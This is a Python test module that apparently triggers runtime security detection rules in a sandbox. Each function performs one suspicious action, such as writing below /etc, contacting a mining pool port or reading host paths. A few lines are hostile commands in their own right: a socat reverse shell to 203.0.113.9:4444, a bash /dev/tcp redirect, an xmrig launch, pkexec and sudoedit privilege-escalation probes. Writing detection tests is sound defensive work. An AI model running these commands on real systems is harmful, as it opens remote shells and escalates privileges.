"""Acts for the upstream rules of the sandbox file, in its order."""

from __future__ import annotations

import contextlib
import os

from . import kit
from .kit import HOST, PLAIN, PRIVILEGED, act, run


@act(HOST, "Unexpected inbound connection source", "Interpreted procs inbound network activity",
     "Interpreted procs outbound network activity")  # fmt: skip
def inbound_and_outbound() -> None:
    code = "s = socket.create_server((sys.argv[1], 0))\nsocket.create_connection(s.getsockname())\ns.accept()"
    kit.as_python("python3", code, argument=kit.ADDRESS)


@act(HOST, "Read Shell Configuration File")
def read_profile() -> None:
    os.close(os.open(".profile", os.O_RDONLY | os.O_CREAT))


@act(HOST, "Update Package Repository", "Write below etc", "File Below Etc Changed")
def add_package_source() -> None:
    kit.write("/etc/apt/sources.list.d/test.list")


@act(HOST, "Write below binary dir", "File Below Binary Folder Changed")
def write_below_bin() -> None:
    kit.write("/bin/tuimon-test")


@act(HOST, "Write below monitored dir", "File Below Binary Folder Changed")
def write_below_usr_local() -> None:
    kit.write("/usr/local/bin/tuimon-test")


@act(HOST, "Write below etc", "File Below Etc Changed")
def write_below_etc() -> None:
    kit.write("/etc/tuimon-test")


@act(HOST, "Write below root")
def write_below_root() -> None:
    kit.write("/root/tuimon-test")


@act(HOST, "Write below rpm database")
def write_rpm_database() -> None:
    kit.write("/var/lib/rpm/tuimon-test")


@act(HOST, "Modify binary dirs", "File Below Binary Folder Changed")
def rename_below_bin() -> None:
    os.rename("/usr/bin/shred", "/usr/bin/shred-test")
    os.rename("/usr/bin/shred-test", "/usr/bin/shred")


@act(HOST, "Mkdir binary dirs")
def mkdir_below_bin() -> None:
    os.mkdir("/bin/tuimon-folder")


@act(
    PLAIN, "Unexpected K8s NodePort Connection", "Interpreted procs outbound network activity", "Unexpected UDP Traffic"
)
def node_port() -> None:
    kit.connect_udp(kit.ADDRESS, 30001)


@act(HOST, "Create Hidden Files or Directories")
def hidden_folder() -> None:
    os.mkdir(".hidden")


@act(HOST, "Create Hidden Files or Directories")
def hidden_file() -> None:
    kit.write(".hidden-file")


@act(
    PLAIN,
    "Detect outbound connections to common miner pool ports",
    "Container Connected To Mining Port",
    "Interpreted procs outbound network activity",
    "Unexpected UDP Traffic",
)
def connect_to_mining_pool() -> None:
    kit.connect_udp(kit.POOL_ADDRESS, 3333)


@act(
    PLAIN,
    "Contact K8S API Server From Container",
    "Interpreted procs outbound network activity",
    "Unexpected UDP Traffic",
)
def contact_api_server() -> None:
    kit.connect_udp(kit.API_ADDRESS, 443)


@act(HOST, "Detect crypto miners using the Stratum protocol", "Crypto Miner Started")
def stratum() -> None:
    run("/bin/echo", "-o", "stratum+tcp://pool.example:3333")


@act(PLAIN, "Kubernetes Client Tool Launched in Container")
def kubernetes_client() -> None:
    run(kit.program("kubectl"), "version")


@act(PLAIN, "Container Drift Detected (chmod)")
def drift_by_chmod() -> None:
    os.chmod(kit.write("file"), 0o755)


@act(PLAIN, "Container Drift Detected (open+create)")
def drift_by_open() -> None:
    os.close(os.open("program", os.O_WRONLY | os.O_CREAT, 0o755))


@act(HOST, "Sudo Potential Privilege Escalation")
def sudo_edit() -> None:
    run(kit.program("sudoedit"), "-s", "x\\")


@act(HOST, "Unprivileged Delegation of Page Faults Handling to a Userspace Process", "Non sudo setuid")
def page_faults() -> None:
    kit.as_daemon(lambda: kit.syscall("userfaultfd", os.O_CLOEXEC))


@act(HOST, "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)")
def polkit() -> None:
    run(kit.program("pkexec"))


@act(HOST, "Java Process Class File Download")
def class_file() -> None:
    code = (
        "a, b = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in 'ab')\n"
        "a.bind(('127.0.0.1', 0))\nb.sendto(bytes.fromhex('cafebabe00000034'), a.getsockname())\na.recvfrom(99)"
    )
    kit.as_python("java", code)


@act(PLAIN, "Modify Container Entrypoint")
def write_through_own_fd() -> None:
    with open("entry", "wb") as file, open(f"/proc/self/fd/{file.fileno()}", "wb") as again:
        again.write(b"x")


@act(PLAIN, "Decoding Payload in Container")
def decode() -> None:
    run("/bin/base64", "-d", kit.write("blob", "aWQK\n"))


@act(HOST, "Basic Interactive Reconnaissance")
def look_around() -> None:
    kit.on_terminal("/usr/bin/whoami")


@act(
    HOST,
    "Launch Suspicious Network Tool on Host",
    "Netcat/Socat Remote Code Execution on Host",
    "Netcat Hands Out A Shell",
)
def socat_with_a_shell() -> None:
    run(kit.program("socat"), "TCP:203.0.113.9:4444", "EXEC:/bin/sh")


@act(HOST, "Known Cryptominer Process Executed", "Crypto Miner Started")
def miner() -> None:
    run(kit.program("xmrig"))


@act(HOST, "Web Server Spawned Shell", "Run shell untrusted", "Shell Started By Server Program")
def shell_of_nginx() -> None:
    kit.as_python("nginx", "subprocess.run(['/bin/sh', '-c', 'exit 0'])")


@act(HOST, "Web Server Spawned Suspicious Child Process")
def web_server_asks_who_it_is() -> None:
    kit.as_python("php-fpm", "subprocess.run(['/usr/bin/id'])")


@act(
    HOST,
    "Reverse Shell from Web Server",
    "Web Server Spawned Shell",
    "Run shell untrusted",
    "Shell Started By Server Program",
)
def reverse_shell_of_web_server() -> None:
    kit.as_python("nginx", "subprocess.run(['/bin/bash', '-c', 'true 5<>/dev/tcp/127.0.0.1/1'])")


@act(PRIVILEGED, "Privileged Container Device Access")
def open_block_device() -> None:
    disks = [f"/dev/{name}" for name in os.listdir("/dev") if name.startswith(("sd", "nvme", "vd", "xvd"))]
    for path in disks:
        with contextlib.suppress(OSError):  # the machine itself may stand in a cgroup that may not touch its disks
            os.close(os.open(path, os.O_RDONLY))
            return
    os.mknod("/dev/sdtest", 0o600)
    kit.read("/dev/sdtest")


@act(PLAIN, "Container Access to Host Sensitive Paths")
def read_below_host() -> None:
    kit.read(kit.write("/host/etc/hostname"))
